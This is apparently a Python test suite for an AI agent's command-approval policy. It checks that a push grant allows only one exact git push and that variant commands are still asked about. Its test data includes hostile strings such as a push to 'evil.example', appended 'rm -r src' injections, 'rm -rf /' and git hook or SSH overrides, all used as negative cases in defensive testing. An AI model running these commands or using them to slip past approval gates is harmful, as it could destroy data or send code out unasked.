"""What is published is asked for unless the run was granted it, and a grant opens nothing else."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from agent.policy.deciding import decide
from agent.policy.grants import OWN_BRANCH, is_own_push, push_text, with_grants
from agent.policy.model import Policy, PolicyFile, Rule
from agent.protocol.actions import OpenPullRequest
from agent.protocol.confirmations import Proposal
from agent.protocol.decisions import RiskContext, Verdict
from agent.protocol.requests import Approval
from agent.risk.classifier import classify
from agent.risk.file_actions import rate_action
from tests.support.each import each

PUSH = push_text("origin", "agent/task-10")
CONTEXT = RiskContext(cwd="/home/me/w", home="/home/me", workspace="/home/me/w")
OTHERS = (
    "git push origin main",
    "git push",
    "git push --force origin agent/task-10",
    "git push --set-upstream -- origin +refs/heads/agent/task-10:refs/heads/agent/task-10",
    "git push --set-upstream -- origin refs/heads/agent/task-10:refs/heads/main",
    "git push --set-upstream -- origin refs/heads/main:refs/heads/agent/task-10",
    "git push --set-upstream -- origin :refs/heads/agent/task-10",
    "git push --set-upstream -- origin refs/heads/main:refs/heads/main",
    "git push --set-upstream -- https://evil.example/x refs/heads/agent/task-10:refs/heads/agent/task-10",
    "git push --set-upstream -- --receive-pack=x refs/heads/agent/task-10:refs/heads/agent/task-10",
    f"{PUSH} ",
    f" {PUSH}",
    f"{PUSH}; rm -r src",
    f"{PUSH}\nrm -r src",
    f"{PUSH} refs/heads/main",
    f"GIT_SSH_COMMAND=x {PUSH}",
    f"sudo {PUSH}",
    f"cd /other && {PUSH}",
    PUSH.replace("task-10", "task-10;x"),
    PUSH.replace("task-10", "task-010"),
    PUSH.replace("git ", "git -c core.hooksPath=x "),
    PUSH.replace("git", "./git"),
    "rm -rf /",
    "gh pr create --fill",
    "ls",
)


def verdict_of(text: str, approval: Approval, *, grant: str = "push", rules: tuple[Rule, ...] = ()) -> Verdict:
    report = classify(text, CONTEXT)
    policy = Policy(files=(PolicyFile(path="/p.toml", trust="user", rules=rules),))
    return with_grants(
        decide(report, approval, policy=policy), report, Proposal(command_id="1", command=text, grant=grant), approval
    )


def plain(text: str, approval: Approval) -> Verdict:
    return decide(classify(text, CONTEXT), approval)


@each("mode", ["ask", "low", "medium"])
def test_a_push_is_asked_for_in_every_mode_unless_it_was_granted(mode: str) -> None:
    for grants in ((), ("pull-request",), None):
        assert verdict_of(PUSH, Approval(mode=mode, grants=grants)).action == "ask"
    granted = verdict_of(PUSH, Approval(mode=mode, grants=("push",)))
    assert (granted.action, granted.rule) == ("allow", "grant-push")


def test_pushes_are_what_they_are_called_or_not() -> None:
    approval = Approval(mode="medium", grants=())
    for text in ("git push origin main", "gh pr create --fill", "git push -u -- origin x:x"):
        assert plain(text, approval).action == "allow"
        assert verdict_of(text, approval, grant="").action == "ask"
        assert verdict_of(text, Approval(mode="medium"), grant="").action == "allow"  # no run of the agent's
    assert verdict_of("ls", approval, grant="").action == "allow"
    assert verdict_of("git commit -m x", approval, grant="").action == "allow"


@each(
    ("exports", "action"),
    [
        ({"OLDPWD": "/home/me"}, "allow"),
        ({"GIT_CONFIG_COUNT": "1"}, "ask"),
        ({"PATH": "/tmp/x:/usr/bin"}, "ask"),
        ({"GIT_DIR": "/x"}, "ask"),
    ],
)
def test_what_a_session_has_exported_takes_the_grant_away(exports: dict[str, str], action: str) -> None:
    approval, report = Approval(mode="medium", grants=("push",)), classify(PUSH, replace(CONTEXT, exports=exports))
    proposal = Proposal(command_id="1", command=PUSH, grant="push")
    assert with_grants(decide(report, approval), report, proposal, approval).action == action


@each("text", OTHERS)
def test_a_grant_is_for_no_other_command(text: str) -> None:
    approval = Approval(mode="medium", grants=("push", "pull-request"))
    assert not is_own_push(text)
    for grant in ("push", "pull-request", "all", "Push"):
        assert verdict_of(text, approval, grant=grant).action != "allow"


def test_an_edited_push_is_another_command() -> None:
    approval = Approval(grants=("push",))
    report = classify(PUSH, CONTEXT)
    proposal = Proposal(command_id="1", command="git status", grant="push")
    assert with_grants(decide(report, approval), report, proposal, approval).action == "ask"


@each("action", ["deny", "ask", "type"])
def test_a_grant_opens_nothing_that_a_rule_of_the_person_says(action: str) -> None:
    rule = Rule(name="r", action=action, program=("git",), words=(("push",),))  # type: ignore[arg-type]
    found = verdict_of(PUSH, Approval(mode="medium", grants=("push",)), rules=(rule,))
    assert found.action == {"deny": "refuse"}.get(action, action) and found.rule == "p.toml:r"


def test_a_policy_that_cannot_be_read_still_asks() -> None:
    report = classify(PUSH, CONTEXT)
    policy = Policy(files=(PolicyFile(path="/p.toml", trust="user", error="broken"),))
    approval = Approval(mode="medium", grants=("push",))
    proposal = Proposal(command_id="1", command=PUSH, grant="push")
    assert with_grants(decide(report, approval, policy=policy), report, proposal, approval).action == "ask"


@each(
    "text",
    [
        "git send-pack /path HEAD:refs/heads/main",
        "/usr/lib/git-core/git-send-pack /path HEAD",
        "echo x | xargs git send-pack",
        "git -c alias.zz=push zz origin HEAD:x",
        "git config alias.zz push && git zz origin HEAD:x",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.zz GIT_CONFIG_VALUE_0=push git zz",
        "git zz",
        'git "$x" origin',
        "git subtree push -P a origin b",
        "git http-push x y",
        "git svn dcommit",
        "git p4 submit",
        "git lfs push origin x",
        "git-lfs push origin x",
        "git remote-https x y",
        "git rebase -x 'git send-pack /x HEAD' main",
        "git submodule foreach git zz",
        "git daemon",
        "git config --global core.pager cat",
        "git config core.hooksPath x",
        "git config --file .git/config a.b c",
        "git config a.b c",
        "git config --unset a.b",
        "git config --unse a.b",
        "git config set a.b c",
        "git config edit",
        "git config include.path ../x",
        "git remote set-url origin x",
        "git -c remote.origin.pushurl=/x fetch",
        "git -cinclude.path=x status",
        "git --config-env=alias.zz=X status",
        "git --exec-path=/x status",
        "git branch -u origin/main",
        "git branch --set-upstream-to=origin/x",
        "git submodule add x",
        "git lfs install",
        "scalar register",
    ],
)
def test_a_use_of_git_that_may_publish_or_sets_it_up_is_asked_for_in_a_run(text: str) -> None:
    for grants in ((), ("push", "pull-request")):
        found = verdict_of(text, Approval(mode="medium", grants=grants), grant="")
        assert found.action in ("ask", "type") and found.rule != "approve-medium"


@each(
    "text",
    [
        "git status",
        "git add -A && git commit -m 'feat: x'",
        "git fetch --prune --no-tags -- origin",
        "git worktree add --no-track -b agent/task-1 -- /home/me/w/b refs/remotes/origin/main",
        "git -c color.ui=never diff",
        "git config user.name",
        "git config --global --get user.name",
        "git remote -v",
        "git branch -a",
        "git rebase origin/main",
        "git -C sub log",
        "git --version",
    ],
)
def test_what_git_is_mostly_used_for_runs_by_the_mode_in_a_run_too(text: str) -> None:
    assert verdict_of(text, Approval(mode="medium", grants=()), grant="").action == "allow"


def within_of(text: str, exports: dict[str, str] | None = None) -> str:
    """What becomes of a command in a run that works in the folder of the context."""
    approval, report = Approval(mode="medium", grants=()), classify(text, replace(CONTEXT, exports=exports or {}))
    proposal = Proposal(command_id="1", command=text, within=CONTEXT.cwd)
    return with_grants(decide(report, approval), report, proposal, approval).action


@each(
    "text",
    [
        "git -C /bare.git fetch /home/me/w HEAD:evil",
        "git -C / -C bare.git pull /home/me/w",
        "git --git-dir=/bare.git fetch /home/me/w",
        "git --git-dir /bare.git update-ref refs/heads/main abc",
        "GIT_DIR=/bare.git git fetch /home/me/w",
        "env -C /bare.git git fetch /home/me/w",
        "cd /bare.git && git fetch /home/me/w",
        "cd $X && git fetch",
        "(cd ..; git branch -f main abc)",
        "sh -c 'cd /bare.git; git fetch /home/me/w'",
        "git -C link fetch ..",
        "cd /bare.git && /usr/lib/git-core/git-fetch /home/me/w",
        "ls /x | xargs -I{} git -C {} fetch /home/me/w",
    ],
)
def test_another_repository_takes_nothing_in_unasked(text: str) -> None:
    assert within_of(text) in ("ask", "type")
    assert within_of("git fetch /home/me/w", {"GIT_DIR": "/bare.git"}) == "ask"


@each(
    "text",
    [
        "git fetch origin",
        "cd /home/me/w && git pull",
        "git -C . fetch",
        "cd docs && git add . && git commit -m x",
        "git -C /elsewhere log",
        "cd .. && git status",
    ],
)
def test_the_repository_that_a_run_works_in_and_looks_elsewhere_are_left_to_the_mode(text: str) -> None:
    assert within_of(text) == "allow"


CHANGES = (
    "touch {}", "echo x > {}", "echo x >> {}", "mkdir -p {}", "cp a {}", "mv a {}", "mv {} b", "ln -s a {}", "rm {}", "chmod 600 {}",
    "truncate -s 0 {}", "tee {} < a", "sed -i s/a/b/ {}", "sort -o {} a", "true && (touch {})", "x={}; touch $x", "sh -c 'touch {}'",
    "env touch {}", "curl -o {} https://example.com/x", "git log --output={}", "find {} -delete", "tar xf a.tar -C {}",
)  # fmt: skip


@each("form", CHANGES)
def test_files_outside_the_folder_of_a_run_are_changed_unasked_in_no_mode(form: str) -> None:
    for place in ("/home/me/other/f", "../other/f", "~/other/f", "/home/me/w2/f", "/srv/f"):
        assert within_of(form.format(place)) in ("ask", "type"), place
    assert within_of(f"cd /home/me/other && {form.format('f')}") in ("ask", "type")


@each("form", CHANGES)
def test_files_in_it_and_temporary_ones_are_left_to_the_mode(form: str) -> None:
    for place in ("sub/f", "/home/me/w/sub/f"):
        text = form.format(place)
        expected = decide(classify(text, CONTEXT), Approval(mode="medium", grants=())).action
        assert within_of(text) == expected, place
    assert within_of("touch /tmp/f") == within_of("cd /tmp && touch f") == "allow"


WORDS = st.one_of(
    st.sampled_from(["git", "push", "--set-upstream", "--force", "-f", "--", "origin", "refs/heads/agent/task-1", "+", ":",
                     "refs/heads/agent/task-1:refs/heads/agent/task-1", "main", ";", "&&", "|", "$(x)", "'", '"', "\\", "\n", "#", "~"]),
    st.text(max_size=6),
)  # fmt: skip


@given(st.lists(WORDS, max_size=9), st.sampled_from([" ", "", "  ", "\t"]), st.sampled_from(["ask", "low", "medium"]))
def test_no_other_text_is_opened_by_a_grant(words: list[str], between: str, mode: str) -> None:
    text = between.join(words)
    approval = Approval(mode=mode, grants=("push", "pull-request"))
    before, after = plain(text, approval), verdict_of(text, approval)
    if not is_own_push(text):
        assert after.action != "allow"
        assert after.action == before.action or before.action == "allow"


@given(st.text(max_size=30), st.text(max_size=30))
def test_whatever_is_an_own_push_is_one_to_the_letter(remote: str, branch: str) -> None:
    text = push_text(remote, branch)
    if is_own_push(text):
        assert (
            OWN_BRANCH.fullmatch(branch)
            and text == f"git push --set-upstream -- {remote} refs/heads/{branch}:refs/heads/{branch}"
        )
        assert "+" not in text and not remote.startswith("-")


def opened(approval: Approval, *rules: Rule) -> Verdict:
    action = OpenPullRequest(root="/r", where="github.com/a/b", branch="agent/task-1", base="main", title="t", body="b")
    report = rate_action(action, CONTEXT)
    policy = Policy(files=(PolicyFile(path="/p.toml", trust="user", rules=rules),))
    proposal = Proposal(command_id="1", command=report.command, origin="tool", grant="pull-request")
    return with_grants(decide(report, approval, policy=policy), report, proposal, approval)


def test_a_pull_request_has_a_grant_of_its_own() -> None:
    assert opened(Approval(mode="medium")).action == "ask"
    assert opened(Approval(mode="medium", grants=("push",))).action == "ask"
    assert opened(Approval(grants=("pull-request",))).action == "allow"
    rule = Rule(name="r", action="deny", program=("open_pull_request",))
    assert opened(Approval(grants=("pull-request",)), rule).action == "refuse"
